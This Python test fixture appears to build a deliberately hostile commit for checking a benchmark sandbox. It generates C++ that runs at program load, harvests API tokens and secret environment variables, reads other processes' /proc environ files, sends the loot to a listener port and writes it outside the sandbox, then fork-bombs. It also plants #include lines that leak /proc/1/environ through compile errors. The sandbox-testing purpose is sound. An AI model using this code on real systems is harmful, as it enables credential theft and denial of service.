"""A hostile commit for the sandbox test: code that tries to steal the worker's token.

`at_load(...)` is C++ appended to a codec source that rzbench links, so its static
initializer runs whenever the commit's rzbench starts (fingerprint, bench, sizes). It prints
one `hostile:` line per attempt, and sends / writes whatever it found, so a leak would
show in the test's listener or in the file it writes. `at_build(...)` are sources whose
compilation reads a file of the worker's and the environment of PID 1 into the compile
errors a run log shows.
"""

from __future__ import annotations


def at_load(port: int, outside_file: str, worker_file: str) -> str:
    return _AT_LOAD.replace("@PORT@", str(port)).replace("@OUTSIDE@", outside_file).replace(
        "@WORKER_FILE@", worker_file)


def at_build(worker_file: str) -> dict[str, str | bytes]:
    """Sources (path in the tree -> text) whose compilation reads a file of the worker's
    and the environment of PID 1 (the worker itself in a container): a compile error
    quotes what it read into the run log."""
    return {"core/zstd/src/environ.cpp": '#include "/proc/1/environ"\n',
            "core/zstd/src/steal.cpp": f'#include "{worker_file}"\n'}


_AT_LOAD = r'''
// ---- hostile code (basketbench sandbox test): runs when rzbench starts ----
#include <arpa/inet.h>
#include <cerrno>
#include <csignal>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <dirent.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <string>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>
#include <vector>

extern char **environ;

namespace {

void say(const std::string &what, const std::string &outcome) {
   std::fprintf(stderr, "hostile: %s: %s\n", what.c_str(), outcome.c_str());
}

std::string slurp(const std::string &path, int &error) {
   error = 0;
   int fd = ::open(path.c_str(), O_RDONLY);
   if (fd < 0) { error = errno; return ""; }
   std::string data;
   char buffer[4096];
   ssize_t n;
   while ((n = ::read(fd, buffer, sizeof buffer)) > 0) data.append(buffer, static_cast<size_t>(n));
   if (n < 0) error = errno;
   ::close(fd);
   return data;
}

long parent_of(long pid) {
   int error = 0;
   std::string stat = slurp("/proc/" + std::to_string(pid) + "/stat", error);
   size_t close = stat.rfind(')');
   if (error || close == std::string::npos) return 0;
   return std::strtol(stat.c_str() + close + 3, nullptr, 10);  // ") S <ppid>"
}

struct Hostile {
   std::string loot;

   Hostile() {
      steal_environment();
      steal_parents();
      phone_home();
      write_outside();
      fork_without_bound();
   }

   void steal_environment() {
      const char *token = std::getenv("BASKETBENCH_API_TOKEN");
      if (token) loot += std::string("env:") + token + "\n";
      int others = 0;
      for (char **e = environ; *e; ++e)
         if (std::strstr(*e, "TOKEN") || std::strstr(*e, "SECRET") ||
             std::strstr(*e, "BASKETBENCH")) {
            loot += std::string("env:") + *e + "\n";
            ++others;
         }
      say("environment", token ? "BASKETBENCH_API_TOKEN FOUND" :
          "no BASKETBENCH_API_TOKEN, " + std::to_string(others) +
          " variables naming a token or secret");
   }

   void steal_parents() {
      std::vector<long> pids;
      for (long pid = parent_of(static_cast<long>(getpid())); pid > 0; pid = parent_of(pid))
         pids.push_back(pid);
      pids.push_back(1);
      if (DIR *proc = ::opendir("/proc")) {  // and every process it can see
         while (dirent *entry = ::readdir(proc))
            if (long pid = std::strtol(entry->d_name, nullptr, 10); pid > 0 && pid != getpid())
               pids.push_back(pid);
         ::closedir(proc);
      }
      int visible = 0, readable = 0;
      std::string refused;
      for (long pid : pids) {
         int error = 0;
         std::string environ_text = slurp("/proc/" + std::to_string(pid) + "/environ", error);
         ++visible;
         if (error) {
            if (refused.empty())
               refused = "/proc/" + std::to_string(pid) + "/environ: " + std::strerror(error);
            continue;
         }
         ++readable;
         if (environ_text.find("BASKETBENCH_API_TOKEN") != std::string::npos)
            loot += "proc:" + environ_text + "\n";
      }
      say("environ of parents and visible processes",
          std::to_string(pids.size()) + " tried, " + std::to_string(readable) + " readable, " +
          (loot.find("proc:") != std::string::npos ? "TOKEN FOUND" : "no token") +
          (refused.empty() ? "" : "; " + refused));
   }

   void phone_home() {
      int fd = ::socket(AF_INET, SOCK_STREAM, 0);
      if (fd < 0) { say("connect 127.0.0.1:@PORT@", std::strerror(errno)); return; }
      sockaddr_in address{};
      address.sin_family = AF_INET;
      address.sin_port = htons(@PORT@);
      address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
      if (::connect(fd, reinterpret_cast<sockaddr *>(&address), sizeof address) != 0) {
         say("connect 127.0.0.1:@PORT@", std::strerror(errno));
      } else {
         std::string message = "hostile connected\n" + loot;
         ssize_t sent = ::write(fd, message.data(), message.size());
         say("connect 127.0.0.1:@PORT@", "CONNECTED, sent " + std::to_string(sent) + " bytes");
      }
      ::close(fd);
   }

   void write_to(const char *path) {
      int fd = ::open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
      if (fd < 0) { say(std::string("write ") + path, std::strerror(errno)); return; }
      std::string message = "hostile was here\n" + loot;
      ssize_t written = ::write(fd, message.data(), message.size());
      ::close(fd);
      say(std::string("write ") + path, "wrote " + std::to_string(written) + " bytes");
   }

   void write_outside() {
      write_to("@OUTSIDE@");
      write_to("@WORKER_FILE@");
   }

   void fork_without_bound() {
      std::vector<pid_t> children;
      int error = 0;
      while (children.size() < 4096) {
         pid_t child = ::fork();
         if (child < 0) { error = errno; break; }
         if (child == 0) { ::pause(); ::_exit(0); }
         children.push_back(child);
      }
      for (pid_t child : children) ::kill(child, SIGKILL);
      for (pid_t child : children) ::waitpid(child, nullptr, 0);
      say("fork without bound", error ? "stopped after " + std::to_string(children.size()) +
          " processes: " + std::strerror(error) : "NOT STOPPED at 4096 processes");
   }
} hostile;

}  // namespace
'''
